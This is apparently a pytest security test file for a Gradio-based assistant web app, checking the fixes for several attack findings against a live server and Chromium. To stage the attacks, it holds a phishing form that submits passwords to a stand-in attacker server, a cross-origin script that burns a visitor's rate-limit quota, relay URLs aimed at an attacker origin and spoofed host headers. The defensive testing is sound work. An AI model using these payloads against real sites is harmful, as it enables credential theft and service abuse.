"""The attack findings of issue 16, each against a real running server (uvicorn on loopback,
the whole app with Gradio) and, for the phishing page and the quota burn, real Chromium.

Findings 4 (proxies) and 7 (regexes) have their own files: test_proxies.py, test_regex_linear.py.
"""
from __future__ import annotations

import http.server
import json
import logging
from pathlib import Path

import pytest
import requests

from .web_fixtures import CHROMIUM_ARGS, serve_app, serve_folder, serve_handler, web_container

pytestmark = pytest.mark.slow
QUESTION = "What does Article 25 say?"
TEXTBOX = 'textarea[data-testid="textbox"]'
BOT = '[data-testid="bot"]'
PHISH = ('<form action="{evil}/steal" method="get"><input name="pw" type="password" placeholder="Password">'
         '<button id="signin">Sign in</button></form>')


@pytest.fixture(scope="module")
def browser():
    """Chromium for this module only: a session-wide one would stay open while other modules
    start their own Playwright (which cannot run beside another in one thread)."""
    sync_api = pytest.importorskip("playwright.sync_api")
    if not Path("/usr/bin/chromium").exists():
        pytest.skip("Chromium is not installed at /usr/bin/chromium (apt-get install chromium)")
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
        yield b
        b.close()


class Records(logging.Handler):
    def __init__(self):
        super().__init__(logging.INFO)
        self.lines: list[str] = []

    def emit(self, record):
        self.lines.append(record.getMessage() + (" TRACEBACK" if record.exc_info else ""))


@pytest.fixture(scope="module")
def logged():
    handler = Records()
    logging.getLogger().addHandler(handler)
    yield handler
    logging.getLogger().removeHandler(handler)


@pytest.fixture(scope="module")
def evil():
    """A server on another origin that records every request (the phisher's, the relayed URL)."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            body = b"SECRET-RELAYED-CONTENT"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    with serve_handler(Handler) as url:
        yield url, hits


@pytest.fixture(scope="module")
def app_url(settings, embedder, logged):
    from assistant.web import build_app

    with serve_app(build_app(web_container(settings, embedder, rate_limit="1000/minute"))) as url:
        yield url


def session() -> requests.Session:
    s = requests.Session()
    s.trust_env = False
    return s


def chat_fn(url: str, inputs: list[str], outputs: list[str]) -> int:
    config = session().get(f"{url}/config").json()
    types = {c["id"]: c["type"] for c in config["components"]}
    return next(d["id"] for d in config["dependencies"]
                if [types[i] for i in d["inputs"]] == inputs and [types[i] for i in d["outputs"]] == outputs)


def test_1_a_deep_link_cannot_show_a_phishing_form(app_url, evil, browser):
    s = session()
    fn = chat_fn(app_url, ["chatbot"], ["chatbot", "textbox"])  # hands a chatbot value back
    msgs = [{"role": "assistant", "content": [{"type": "text", "text": PHISH.format(evil=evil[0])}]},
            {"role": "user", "content": [{"type": "text", "text": "hi"}]}]
    s.post(f"{app_url}/gradio_api/run/predict", json={"fn_index": fn, "data": [msgs], "session_hash": "attacker1"})
    made = s.get(f"{app_url}/gradio_api/deep_link", params={"session_hash": "attacker1"})
    assert made.status_code == 404
    link = made.text.strip('"') if made.ok else "attacker1"
    page = browser.new_page()
    try:
        response = page.goto(f"{app_url}/?deep_link={link}")
        assert response.status == 404
        assert page.locator('input[type="password"]').count() == 0
        # and a form that did get into a page could not post elsewhere: form-action 'self'
        page.goto(f"{app_url}/widget-demo")
        page.evaluate(f"() => document.body.insertAdjacentHTML('beforeend', {json.dumps(PHISH.format(evil=evil[0]))})")
        page.fill('input[name="pw"]', "hunter2")
        page.click("#signin", no_wait_after=True)
        page.wait_for_timeout(1000)
    finally:
        page.close()
    assert not any("hunter2" in h for h in evil[1])


def test_2_every_route_has_a_body_limit(app_url):
    big = b'{"data": ["' + b"x" * 1_100_000 + b'"], "fn_index": 0, "session_hash": "a"}'
    r = session().post(f"{app_url}/gradio_api/queue/join", data=big, headers={"Content-Type": "application/json"})
    assert r.status_code == 413
    assert r.json()["error"] == "The request body is over 1,000,000 bytes: send less."
    spaces = session().post(f"{app_url}/api/ask", json={"question": "Article" + " " * 5000 + "25?"})
    assert spaces.status_code == 422
    assert spaces.json()["error"] == "The question is 5010 characters long; the limit is 2000: shorten it and ask again."


def test_3_and_5_uploads_file_fetches_and_proxies_are_closed(app_url, evil):
    s = session()
    up = s.post(f"{app_url}/gradio_api/upload", files={"files": ("a.txt", b"x" * 1000)})
    assert up.status_code == 404 and "/tmp" not in up.text
    for path in (f"/gradio_api/file={evil[0]}/relay", f"/gradio_api/proxy={evil[0]}/relay", "/monitoring",
                 "/gradio_api/deep_link?session_hash=x", "/gradio_api/vibe-code", "/login"):
        r = s.get(app_url + path)
        assert r.status_code == 404, path
        assert "SECRET-RELAYED-CONTENT" not in r.text
    assert not any(h.startswith("/relay") for h in evil[1])


def test_8_malformed_gradio_requests_are_4xx_with_one_log_line(app_url, logged):
    s = session()
    cases = [b'{"fn_index": 99999, "data": [], "session_hash": "x"}', b'{"fn_index": 0, "data": [NaN], "session_hash": "x"}',
             b'{"fn_index": "a", "data": [], "session_hash": "x"}']
    for body in cases:
        for path in ("/gradio_api/queue/join", "/gradio_api/run/predict"):
            r = s.post(app_url + path, data=body, headers={"Content-Type": "application/json"})
            assert r.status_code == 422, (path, body)
            assert body.decode() not in r.text
            rid = r.headers["X-Request-ID"]
            assert r.json()["request_id"] == rid
            mine = [line for line in logged.lines if rid in line]
            assert len(mine) == 1 and "\n" not in mine[0] and "TRACEBACK" not in mine[0]


def test_9_nothing_internal_leaks(app_url, settings, embedder, logged):
    s = session()
    config = s.get(f"{app_url}/config", headers={"X-Forwarded-Host": "evil.example"}).text
    page = s.get(f"{app_url}/", headers={"X-Forwarded-Host": "evil.example"}).text
    for text in (config, page):
        assert " at 0x" not in text and "evil.example" not in text
        assert '"secret": "' not in text.replace('"secret": ""', "") and '"secret":"' not in text.replace('"secret":""', "")
    from assistant.web import build_app

    from .conftest import free_port

    dead = f"http://127.0.0.1:{free_port()}/v1"  # an internal LLM address that is down
    app = build_app(web_container(settings, embedder, generator="openai", llm_base_url=dead), chat=False)
    with serve_app(app) as url:
        r = s.post(f"{url}/api/ask", json={"question": QUESTION})
    assert r.status_code == 503
    assert dead.split("//")[1].split("/")[0] not in r.text and str(settings.index_dir) not in r.text
    rid = r.headers["X-Request-ID"]
    assert rid in r.json()["error"]
    assert any(rid in line and dead.split("/v1")[0] in line for line in logged.lines)


def test_10_page_policy_and_referrer_on_every_html_page(app_url):
    s = session()
    for path in ("/", "/docs", "/widget-demo"):
        r = s.get(app_url + path)
        csp = r.headers["Content-Security-Policy"]
        for rule in ("default-src 'self'", "form-action 'self'", "base-uri 'none'", "frame-ancestors 'self'"):
            assert rule in csp, (path, rule)
        assert r.headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
        assert r.headers["X-Content-Type-Options"] == "nosniff"
    docs = s.get(f"{app_url}/docs").text
    assert "cdn." not in docs and "https://" not in docs
    assert s.get(f"{app_url}/docs-assets/swagger-ui-bundle.js").status_code == 200


def test_6_another_site_cannot_burn_a_visitors_quota(settings, embedder, browser, tmp_path):
    from assistant.web import build_app

    app = build_app(web_container(settings, embedder, rate_limit="5/minute"))
    with serve_app(app) as url, serve_folder(tmp_path) as other:
        (tmp_path / "burn.html").write_text(f"""<!doctype html><script>
        async function burn() {{
          for (let i = 0; i < 6; i++) {{
            await fetch("{url}/api/ask", {{method: "POST", mode: "no-cors", headers: {{"Content-Type": "text/plain"}},
                                          body: JSON.stringify({{question: "What does Article 25 say?"}})}});
            await fetch("{url}/api/ask", {{method: "POST", mode: "no-cors", headers: {{"Content-Type": "text/plain"}},
                                          body: "not json"}});
          }}
          document.title = "done";
        }}
        burn();</script>""")
        ctx = browser.new_context()
        try:
            attacker = ctx.new_page()
            attacker.goto(f"{other}/burn.html")
            attacker.wait_for_function("document.title === 'done'", timeout=60000)
            chat = ctx.new_page()
            chat.goto(url + "/")
            chat.fill(TEXTBOX, QUESTION)
            chat.keyboard.press("Enter")
            chat.wait_for_selector(f"{BOT} >> text=[1]", timeout=60000)
            assert "Rate limit" not in chat.content()
        finally:
            ctx.close()
        for _ in range(4):  # the visitor's own questions still count: 5 in all
            assert session().post(f"{url}/api/ask", json={"question": QUESTION}).status_code == 200
        assert session().post(f"{url}/api/ask", json={"question": QUESTION}).status_code == 429


def test_6_a_widget_origin_has_its_own_limit(settings, embedder):
    from assistant.web import build_app

    site = "http://widget.example"
    app = build_app(web_container(settings, embedder, allowed_origins=site, origin_rate_limit="2/minute"), chat=False)
    with serve_app(app) as url:
        codes = [session().post(f"{url}/api/ask", json={"question": QUESTION}, headers={"Origin": site}).status_code
                 for _ in range(3)]
        refused = session().post(f"{url}/api/ask", json={"question": QUESTION}, headers={"Origin": "http://evil.example"})
    assert codes == [200, 200, 429]
    assert refused.status_code == 403

